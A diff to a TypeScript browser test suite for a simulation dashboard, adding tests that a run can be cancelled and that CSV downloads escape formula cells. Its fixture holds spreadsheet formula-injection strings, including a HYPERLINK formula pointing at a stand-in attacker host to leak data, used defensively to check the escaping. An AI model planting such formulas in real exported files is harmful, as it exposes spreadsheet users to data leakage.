@@ -1,10 +1,11 @@
 // The dashboard in a real browser (Debian's Chromium through playwright-core): every page opens,
 // a run started from the page is followed to completion, a citizen's trail and two runs
-// compared are shown, and what the page shows equals what run.duckdb holds. Screenshots of each
-// page go to test-artifacts/.
+// compared are shown, and what the page shows equals what run.duckdb holds; a run started from
+// the page can be cancelled; a CSV download never holds a cell a spreadsheet would run as a
+// formula. Screenshots of each page go to test-artifacts/.
 import { test, before, after } from "node:test";
 import assert from "node:assert/strict";
-import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
+import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join, resolve } from "node:path";
 import { loadScenario } from "../src/scenario/load.js";
@@ -12,6 +13,10 @@ import { simulate } from "../src/engine/simulate.js";
 import { writeRunFolder } from "../src/io/run-folder.js";
 import { queryRows } from "../src/io/duckdb.js";
 import { startServer, type DashboardServer } from "../src/server/server.js";
+import { makeScenario } from "./helpers.js";
+
+/** Region names a spreadsheet would run as formulas, were they written as they are. */
+const FORMULA_REGIONS = ['=HYPERLINK("http://evil.example/?leak","click")', "+1+1", "-2+3", "@SUM(1)"];
 
 const CHROMIUM = "/usr/bin/chromium";
 const STATIC = resolve("dist/web");
@@ -40,6 +45,8 @@ before(async () => {
   mkdirSync(ARTIFACTS, { recursive: true });
   const result = simulate(loadScenario("scenarios/china-2018.yaml"), { seed: 5, population: 20_000, days: 90 });
   await writeRunFolder(result, join(runs, "china"), { version: "test" });
+  const formulas = makeScenario({ population: { size: 2000, regions: FORMULA_REGIONS.map((name) => ({ name, weight: 1, urbanShare: 0.5 })) } });
+  await writeRunFolder(simulate(formulas, { seed: 2, days: 20 }), join(runs, "formulas"), { version: "test" });
   srv = await startServer({ runsDir: runs, staticDir: STATIC, scenariosDir: "scenarios", version: "test", port: 0 });
   const { chromium } = await import("playwright-core");
   browser = await chromium.launch({
@@ -78,9 +85,44 @@ test("runs page: lists the runs and follows a run started from the page to compl
   const manifest = JSON.parse(readFileSync(join(runs, startedRun, "manifest.json"), "utf8"));
   assert.equal(manifest.status, "complete");
   assert.equal(manifest.population, 5000);
-  await page.locator("#runs tbody tr", { hasText: startedRun }).waitFor();
-  assert.match((await page.locator("#runs tbody tr", { hasText: startedRun }).textContent()) ?? "", /complete/);
+  // The list is fetched again once the run is complete (its database is checked first: a moment).
+  await page.locator("#runs tbody tr", { hasText: startedRun }).filter({ hasText: "complete" }).waitFor();
   await page.screenshot({ path: join(ARTIFACTS, "runs.png"), fullPage: true });
+});
+
+test("runs page: a run started from the page can be cancelled, and leaves no run folder", { skip, timeout: 60_000 }, async () => {
+  await page.goto(srv.url);
+  await page.selectOption("select[name=scenario]", "city-pilot");
+  await page.fill("input[name=population]", "300000");
+  await page.fill("input[name=days]", "3650");
+  await page.fill("input[name=seed]", "12");
+  await page.click("button[type=submit]");
+  await page.locator('.progress[data-status="running"]').waitFor();
+  await page.click("#cancel-run");
+  await page.locator('.progress[data-status="cancelled"]').waitFor({ timeout: 10_000 });
+  assert.match((await page.locator(".progress").textContent()) ?? "", /cancelled/);
+  assert.deepEqual(readdirSync(runs).filter((f) => f.startsWith("city-pilot-300000x3650")), []);
+  assert.equal(await page.locator("button[type=submit]").isEnabled(), true, "a new run can be started");
+});
+
+test("a CSV download escapes cells that a spreadsheet would run as formulas", { skip, timeout: 60_000 }, async () => {
+  await page.goto(`${srv.url}#/run/formulas/citizen`);
+  await page.click('button[data-filter="any"]');
+  await page.waitForLoadState("networkidle");
+  await page.locator("#citizens tbody tr").first().waitFor();
+  const [download] = await Promise.all([page.waitForEvent("download"), page.locator("#citizens button", { hasText: "CSV" }).click()]);
+  const lines = readFileSync(await download.path(), "utf8").trim().split("\n");
+  // One CSV line into its cells (quoted cells may hold commas and doubled quotes).
+  const cells = (line: string) => [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)].map((m) => m[1].replace(/^"(.*)"$/s, "$1").replace(/""/g, '"')).slice(0, -1);
+  const header = cells(lines.find((l) => l.includes("region")) ?? "");
+  const region = header.indexOf("region");
+  assert.ok(region >= 0, `a region column: ${header.join(",")}`);
+  const rows = lines.slice(lines.indexOf(header.join(",")) + 1).map(cells);
+  assert.ok(rows.length > 0);
+  for (const row of rows) {
+    assert.ok(FORMULA_REGIONS.map((r) => `'${r}`).includes(row[region]), `region cell ${JSON.stringify(row[region])} is not escaped`);
+    assert.match(row[0], /^\d+$/, "numbers are written as numbers");
+  }
 });
 
 test("run page: charts drawn, figures equal the database, downloads work", { skip, timeout: 60_000 }, async () => {
